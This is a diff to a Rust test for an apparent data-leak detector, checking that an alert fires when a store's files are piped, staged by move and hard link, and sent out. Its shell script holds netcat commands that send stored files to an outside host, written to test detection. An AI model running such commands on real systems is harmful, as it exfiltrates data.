@@ -134,25 +134,40 @@ fn each_way_of_reading_is_counted() {
     }
 }
 
+/// Held by who sends it, though no byte of it was read under a name in the store by them: through a named pipe, and (T1074.001)
+/// moved and linked out by another session before anybody read it.
 #[test]
-fn what_passes_through_a_named_pipe_is_held_by_who_took_it() {
+fn what_was_piped_moved_or_linked_out_is_held_by_who_sends_it() {
     let script = format!(
-        "for unit in taker sender; do mkdir /sys/fs/cgroup/$unit.service; done
+        "for unit in taker sender receiver; do mkdir /sys/fs/cgroup/$unit.service; done
          dd if=/dev/zero of=/disk/store/file bs=1M count=110
          mkfifo /run/silence /run/between
-         out nc -l -p 80 <>/run/silence >/dev/null &
-         until out netstat -ltn | grep -q ':80 '; do usleep 100000; done
+         sink() {{ out nc -l -p $1 <>/run/silence >/dev/null & until out netstat -ltn | grep -q \":$1 \"; do usleep 100000; done; }}
+         sink 80
          sh -c 'echo $$ >/sys/fs/cgroup/taker.service/cgroup.procs; cat /disk/store/file >/run/between' &
          sh -c 'echo $$ >/sys/fs/cgroup/sender.service/cgroup.procs; exec nc {OUT} 80 </run/between'
+         rm /disk/store/file
+         for file in $(seq 10 36); do dd if=/dev/zero of=/disk/store/$file bs=1M count=4; done
+         mkdir /disk/stage
+         sh -c 'echo $$ >/sys/fs/cgroup/taker.service/cgroup.procs; cd /disk/store
+                mv 1? /disk/stage/; for file in *; do ln $file /disk/stage/$file; done'
+         sink 81
+         sh -c 'echo $$ >/sys/fs/cgroup/receiver.service/cgroup.procs; cat /disk/stage/* | nc {OUT} 81'
          wait"
     );
-    let Some(answer) = beside(
-        "what_passes_through_a_named_pipe_is_held_by_who_took_it",
-        &script,
-    ) else {
+    let name = "what_was_piped_moved_or_linked_out_is_held_by_who_sends_it";
+    let Some(answer) = beside(name, &script) else {
         return;
     };
-    let key = [("store", "ekg"), ("session", "unit:sender.service")];
-    let fired = |alert: &_| is(alert, "store-data-leaves", "firing", &key);
-    assert!(answer.alerts().iter().any(fired), "{}", answer.everything());
+    near("read", read_of_the_store(&answer), 218.0 * MIB, &answer);
+    for (session, port) in [("unit:sender.service", 80), ("unit:receiver.service", 81)] {
+        let key = [("store", "ekg"), ("session", session)];
+        let fired = |alert: &&_| is(alert, "store-data-leaves", "firing", &key);
+        let alerts = answer.alerts();
+        let alert = alerts.iter().find(fired);
+        let alert = alert.unwrap_or_else(|| panic!("{session}: {}", answer.everything()));
+        println!("   {}", alert["summary"]);
+        let to = format!("{OUT}:{port}");
+        assert!(alert["destinations"].to_string().contains(&to), "{alert:#}");
+    }
 }
